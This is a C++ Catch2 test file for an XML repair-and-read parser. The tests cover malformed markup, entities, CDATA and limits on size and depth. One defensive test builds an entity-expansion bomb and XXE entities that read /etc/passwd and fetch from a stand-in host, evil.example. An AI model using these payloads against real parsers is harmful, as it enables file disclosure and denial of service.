#include "connectors/reading/feeds/mend.hpp"

#include <catch2/catch.hpp>
#include <stdexcept>
#include <vector>

#include "connectors/reading/feeds/xml.hpp"

using namespace campaignd;

namespace {

/// Writes down what a handler is given: "<p:name a=[value]", "text", "</name".
class Notes final : public XmlHandler {
 public:
  std::vector<std::string> events;

  void start(XmlName name, const std::vector<XmlAttribute>& attributes) override {
    auto event = "<" + full(name);
    for (const auto& each : attributes) event += " " + full(each.name) + "=[" + each.value + "]";
    note(std::move(event));
  }
  void text(std::string_view text) override {
    if (!in_text_) note("");
    in_text_ = true;
    events.back() += text;
  }
  void end(XmlName name) override { note("</" + full(name)); }

 private:
  void note(std::string event) {
    if (in_text_ && events.back().empty()) events.pop_back();
    in_text_ = false;
    events.push_back(std::move(event));
  }
  static std::string full(const XmlName& name) {
    auto space = name.space.empty() ? std::string{} : "{" + std::string(name.space) + "}";
    return space + (name.prefix.empty() ? "" : std::string(name.prefix) + ":") + std::string(name.local);
  }

  bool in_text_ = false;
};

using Events = std::vector<std::string>;

Events mended_events(std::string_view text) {
  Notes notes;
  read_mended_xml(text, notes);
  return notes.events;
}

std::string mended(std::string_view text) { return mend(text).text; }

std::string many(std::string_view piece, std::size_t bytes) {
  std::string out;
  out.reserve(bytes + piece.size());
  while (out.size() < bytes) out += piece;
  return out;
}

constexpr std::size_t five_mb = 5 * 1024 * 1024;

}  // namespace

TEST_CASE("well-formed markup stays as it is", "[mend]") {
  for (const char* text : {"<a/>", "<a><b x=\"1\">t</b></a>", "<x:a xmlns:x=\"urn:x\">&amp;&lt;</x:a>", "<a></a>"}) {
    CHECK(mended(text) == text);
    CHECK(mend(text).complete);
  }
}

TEST_CASE("an element that is never closed ends where its parent does", "[mend]") {
  CHECK(mended("<a><b>x</a>") == "<a><b>x</b></a>");
  CHECK(mended("<a><b><c>x</b>y</a>") == "<a><b><c>x</c></b>y</a>");
  CHECK(mend("<a><b>x</a>").complete);
}

TEST_CASE("an end tag without its start is dropped", "[mend]") {
  CHECK(mended("<a>x</b>y</a>") == "<a>xy</a>");
  CHECK(mended("</b><a>x</a>") == "<a>x</a>");
  CHECK(mended("<a>x</ >y</a>") == "<a>x&lt;/ &gt;y</a>");
}

TEST_CASE("crossing tags close what is open inside the outer one", "[mend]") {
  CHECK(mended("<r><a><b>x</a>y</b>z</r>") == "<r><a><b>x</b></a>yz</r>");
}

TEST_CASE("an end tag matches its start in another case where none has its own", "[mend]") {
  CHECK(mended("<Item><Title>x</title></ITEM>") == "<Item><Title>x</Title></Item>");
  CHECK(mended("<r><A><a>x</A></r>") == "<r><A><a>x</a></A></r>");
}

TEST_CASE("an end tag without its '>' ends at the next tag", "[mend]") {
  CHECK(mended("<a><b>x</b<c>y</c></a>") == "<a><b>x</b><c>y</c></a>");
}

TEST_CASE("a '<' that opens no tag is text", "[mend]") {
  CHECK(mended("<a>1 < 2 <3 x<y</a>") == "<a>1 &lt; 2 &lt;3 x&lt;y</a>");
  CHECK(mended("<a>ends with <</a>") == "<a>ends with &lt;</a>");
}

TEST_CASE("an '&' that starts no reference is text", "[mend]") {
  CHECK(mended("<a>R&D, b & c &; &unknown; &#; &amp</a>") ==
        "<a>R&amp;D, b &amp; c &amp;; &amp;unknown; &amp;#; &amp;amp</a>");
  CHECK(mended("<a b=\"?x=1&y=2\"/>") == "<a b=\"?x=1&amp;y=2\"/>");
}

TEST_CASE("references are decoded once, names being those of HTML", "[mend]") {
  CHECK(mended("<a>Caf&eacute;&nbsp;&#8217;&#x2019;&apos;&#146;</a>") == "<a>Café\u00A0’’'’</a>");
  CHECK(mended("<a>&amp;eacute; &lt;b&gt;</a>") == "<a>&amp;eacute; &lt;b&gt;</a>");
  CHECK(mended("<a b='&eacute;&quot;&lt;'/>") == "<a b=\"é&quot;&lt;\"/>");
}

TEST_CASE("what no XML may hold goes, however it is written", "[mend]") {
  CHECK(mended("<a>x&#1;&#8;&#xFFFE;&#xFFFF;\uFFFE\uFFFFy</a>") == "<a>xy</a>");
  CHECK(mended("<a>x&#xD800;&#0;&#x110000;y</a>") == "<a>x\uFFFD\uFFFD\uFFFDy</a>");
  CHECK(mended("<a><![CDATA[x\uFFFFy & <z>]]></a>") == "<a>xy &amp; &lt;z&gt;</a>");
}

TEST_CASE("attributes without quotes get them", "[mend]") {
  CHECK(mended("<a b=1 c=x/y d = 'z'>t</a>") == "<a b=\"1\" c=\"x/y\" d=\"z\">t</a>");
  CHECK(mended("<a href=https://a.example/?x=1&amp;y=2>t</a>") == "<a href=\"https://a.example/?x=1&amp;y=2\">t</a>");
}

TEST_CASE("an attribute without a value, and one given again, say nothing", "[mend]") {
  CHECK(mended("<a checked b=\"1\">t</a>") == "<a b=\"1\">t</a>");
  CHECK(mended("<a b=\"1\" b=\"2\" c=\"3\"/>") == "<a b=\"1\" c=\"3\"/>");
}

TEST_CASE("attributes need no space between them", "[mend]") {
  CHECK(mended("<a b=\"1\"c='2'/>") == "<a b=\"1\" c=\"2\"/>");
}

TEST_CASE("a quote that is never closed ends with its tag", "[mend]") {
  CHECK(mended("<r><a b=\"1>x</a><c>y</c></r>") == "<r><a b=\"1\">x</a><c>y</c></r>");
  CHECK(mended("<r><a b=\"1></a><c d=\"2\">y</c></r>") == "<r><a b=\"1\"></a><c d=\"2\">y</c></r>");
}

TEST_CASE("a tag without its '>' ends where the next begins", "[mend]") {
  CHECK(mended("<r><a b=\"1\" <c>x</c></a></r>") == "<r><a b=\"1\"><c>x</c></a></r>");
}

TEST_CASE("comments and processing instructions go", "[mend]") {
  CHECK(mended("<a>x<!-- <b> & -- -->y<?php echo '<c>' ?>z</a>") == "<a>xyz</a>");
}

TEST_CASE("a comment or instruction without its end goes up to the next '>'", "[mend]") {
  CHECK(mended("<a><!-- x <b>y</b></a>") == "<a>y</a>");
  CHECK(mended("<a><? x <b>y</b></a>") == "<a>y</a>");
}

TEST_CASE("nothing is decoded in a CDATA section", "[mend]") {
  CHECK(mended_events("<a><![CDATA[<b>&amp; ]] > &eacute;]]></a>") == Events{"<a", "<b>&amp; ]] > &eacute;", "</a"});
  CHECK(mended_events("<a>x<![cdata[<y>]]>z</a>") == Events{"<a", "x<y>z", "</a"});
  CHECK(mended_events("<a><![CDATA[]]></a>") == Events{"<a", "</a"});
}

TEST_CASE("a CDATA section that is never closed holds what its element holds", "[mend]") {
  CHECK(mended_events("<r><a><![CDATA[x & <b>y</a><c>z</c></r>") ==
        Events{"<r", "<a", "x & <b>y", "</a", "<c", "z", "</c", "</r"});
  CHECK_FALSE(mend("<r><a><![CDATA[x & y").complete);
}

TEST_CASE("nothing a DOCTYPE declares is ever seen", "[mend]") {
  std::string bomb = "<!DOCTYPE a [<!ENTITY e0 \"boom\">";
  for (int i = 1; i < 10; ++i) {
    auto name = "&e" + std::to_string(i - 1) + ";";
    bomb += "<!ENTITY e" + std::to_string(i) + " \"" + many(name, name.size() * 10) + "\">";
  }
  bomb +=
      "<!ENTITY f SYSTEM \"file:///etc/passwd\"><!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;"
      "<!ELEMENT a (#PCDATA)><!ATTLIST a b CDATA \"boom\">]>";
  const auto document = bomb + "<a>x&e9;&f;&p;y</a>";
  CHECK(mended(document) == "<a>x&amp;e9;&amp;f;&amp;p;y</a>");
  CHECK(mended_events(document) == Events{"<a", "x&e9;&f;&p;y", "</a"});
  Notes strict;
  CHECK_FALSE(read_xml(document, strict));
  for (const auto& event : strict.events) CHECK(event.find("boom") == std::string::npos);
}

TEST_CASE("a DOCTYPE without a subset goes up to its '>'", "[mend]") {
  CHECK(mended("<?xml version=\"1.0\"?><!DOCTYPE rss PUBLIC \"-//N//DTD\" \"http://dtd.example/\"><a/>") == "<a/>");
  CHECK(mended("<a>x<!DOCTYPE html>y<![if !mso]>z</a>") == "<a>xyz</a>");
}

TEST_CASE("what stands before and behind the root is nothing", "[mend]") {
  CHECK(mended("\r\n junk & more <?xml version=\"1.0\"?> junk <a>x</a>") == "<a>x</a>");
  CHECK(mended("<a>x</a> junk & <b>y</b> </a> <script>z") == "<a>x</a>");
  CHECK(mended("<a/><b/>") == "<a/>");
  CHECK(mend("<a>x</a><b>").complete);
}

TEST_CASE("without an element there is nothing", "[mend]") {
  for (const char* text :
       {"", " ", "text", "<", "<>", "</a>", "<!-- a -->", "<?xml?>", "<!DOCTYPE a", "&", "<1>", "<a"})
    CHECK(mended(text).empty());
}

TEST_CASE("a document that breaks off keeps what it said to there", "[mend]") {
  const std::string whole = "<r><a b=\"c\">text &amp; more</a><d><![CDATA[<e> & f]]></d></r>";
  for (std::size_t size = 1; size + 1 < whole.size(); ++size) {
    INFO(whole.substr(0, size));
    CHECK(mend(whole.substr(0, size)).complete == (size < 3));
  }
  CHECK(mended("<r><a>x</a><b c=\"d") == "<r><a>x</a>");
  CHECK(mended("<r><a>x</a><b c") == "<r><a>x</a>");
  CHECK(mended("<r><a>x</a") == "<r><a>x</a>");
  CHECK(mended("<r><a>te") == "<r><a>te");
  CHECK(mended("<r><a>te&am") == "<r><a>te&amp;am");
  CHECK(mended_events("<r><a><![CDATA[<e> &") == Events{"<r", "<a", "<e> &"});
  CHECK(mended("<r><a>x</a><!-- y") == "<r><a>x</a>");
}

TEST_CASE("elements deeper than 200 lose their tags and keep their text", "[mend]") {
  auto bomb = many("<a>", 300'000) + "x" + many("</a>", 400'000);
  auto out = mend(bomb);
  CHECK(out.complete);
  CHECK(out.text == many("<a>", 600) + "x" + many("</a>", 800));
  auto events = mended_events(many("<a>", 300'000) + "deep");
  REQUIRE(events.size() == 201U);
  CHECK(events.back() == "deep");
}

TEST_CASE("five megabytes of one mark are text or nothing", "[mend]") {
  CHECK(mended("<r>" + many("<", five_mb) + "</r>") == "<r>" + many("&lt;", five_mb * 4) + "</r>");
  CHECK(mended("<r>" + many("&", five_mb) + "</r>") == "<r>" + many("&amp;", five_mb * 5) + "</r>");
  CHECK(mended(many("&", five_mb)).empty());
  CHECK(mended(many("<", five_mb)).empty());
  CHECK(mended("<r>" + many("</x>", five_mb) + "</r>") == "<r></r>");
  CHECK(mended("<r>" + many("<x/>", five_mb) + "</r>").size() == five_mb + 7);
  CHECK(mended("<r " + many("a=", five_mb) + ">x</r>").ends_with(">x</r>"));
}

// A mark that never comes was looked for up to the end of the document, each time.
TEST_CASE("five megabytes of marks that are never closed are nothing", "[mend]") {
  for (const char* piece : {"<!-- >", "<? >", "</a ", "</a", "<!x>", "<![if>", "<![CDATA[", "<![CDATA[</x>"}) {
    INFO(piece);
    auto out = mend("<r>" + many(piece, five_mb));
    CHECK_FALSE(out.complete);
    CHECK(out.text.starts_with("<r>"));
    CHECK(out.text.size() <= 2 * five_mb);
  }
  CHECK(mended("<r>" + many("<a><![CDATA[</a>", five_mb) + "</r>").ends_with("</a></r>"));
  CHECK(mended("<r>" + many("<a b=\"' ", five_mb)).starts_with("<r>"));
  CHECK(mended("<r>" + many("<a b='x><", five_mb)).starts_with("<r>"));
}

TEST_CASE("five megabytes of tags that never end are as deep as any", "[mend]") {
  auto out = mend(many("<a ", five_mb));
  CHECK_FALSE(out.complete);
  CHECK(out.text == many("<a>", 600));
}

TEST_CASE("mended text read again gives the same", "[mend]") {
  for (const char* text :
       {"<a><b>x</a>", "<a>x</b>y</a>", "<r><a><b>x</a>y</b></r>", "<a>1 < 2 & 3 &eacute; &amp;lt;</a>",
        "<a b=1 b=2 c='\"' d>t</a>", "<r><a b=\"1>x</a><c>y</c></r>", "<r><a><![CDATA[x & <b>y</b></a></r>",
        "<a><![CDATA[x ]]]]><![CDATA[> y]]></a>", "<a><!-- x <b>y</b></a>", "<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>",
        "junk <x:a y:b='1'>x\uFFFFy</X:A> junk", "<a>\xC2\xA0 🎉 ]]> &#9;&#10;</a>"}) {
    INFO(text);
    auto once = mend(text);
    CHECK(once.complete);
    CHECK(mended_events(once.text) == mended_events(text));
    CHECK(mended(once.text) == mended(mended(once.text)));
    Notes strict;
    CHECK(read_xml(once.text, strict));
    CHECK(strict.events == mended_events(text));
  }
}

TEST_CASE("a well-formed document says the same mended", "[mend]") {
  for (const char* text :
       {"<a/>", "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<a>\n <b/>\n</a>\n", "<a>x &lt; y &gt; z &quot;&apos;</a>",
        "<a b='1' c=\"it's\" d='say \"x\"' e='a&lt;b &gt; c'/>", "<a>x<!-- c -->y<?p i?>z<![CDATA[ <&> ]]></a>",
        "<x:a xmlns:x=\"urn:x\" xmlns=\"urn:y\"><b x:c=\"1\" c=\"2\"/><x:b/></x:a>",
        "<a><b xmlns=\"urn:b\"><c/></b><d/></a>", "<undeclared:a other:b=\"1\">x</undeclared:a>",
        "<a xml:lang=\"pl\" xml:base=\"https://a.example/\">żółw 🎉</a>", "<a-b.c_d e-f=\"1\"><_g/></a-b.c_d>",
        "<a  b = \"1\"\n\tc='2' ><d\n/></a\n>", "<a>&#8217;&#x1F389;&#38;&#60;</a>",
        "<a b=\"x\n\ty\">1 &gt;&gt; 0 ]] ></a>", "<A><a>x</a></A>"}) {
    INFO(text);
    Notes strict;
    REQUIRE(read_xml(text, strict));
    CHECK(mended_events(text) == strict.events);
  }
}

TEST_CASE("text longer than the parser takes at once comes whole", "[mend]") {
  auto long_text = many("żółw &amp; ", 200'000);
  auto document = "<a b=\"" + many("ó", 100'000) + "\">" + long_text + "<![CDATA[" + many("<ż>", 100'000) + "]]></a>";
  Notes strict;
  REQUIRE(read_xml(document, strict));
  REQUIRE(strict.events.size() == 3U);
  CHECK(mended_events(document) == strict.events);
  CHECK(strict.events[1] ==
        many("żółw & ", 200'000 / 16 * 12).substr(0, strict.events[1].find("<ż>")) + many("<ż>", 100'000));
}

TEST_CASE("what is no XML is false at its first fault", "[mend]") {
  for (const char* text :
       {"<a>", "<a><b></a>", "<a>&eacute;</a>", "<a b=1/>", "<a/><b/>", "", "x", "<!DOCTYPE a><a/>"}) {
    INFO(text);
    Notes notes;
    CHECK_FALSE(read_xml(text, notes));
  }
}

TEST_CASE("what a handler throws comes through", "[mend]") {
  struct Thrower final : XmlHandler {
    void start(XmlName, const std::vector<XmlAttribute>&) override { throw std::length_error("enough"); }
    void text(std::string_view) override {}
    void end(XmlName) override {}
  } thrower;
  CHECK_THROWS_AS(read_xml("<a><b/></a>", thrower), std::length_error);
  CHECK_THROWS_AS(read_mended_xml("<a><b></a>", thrower), std::length_error);
}
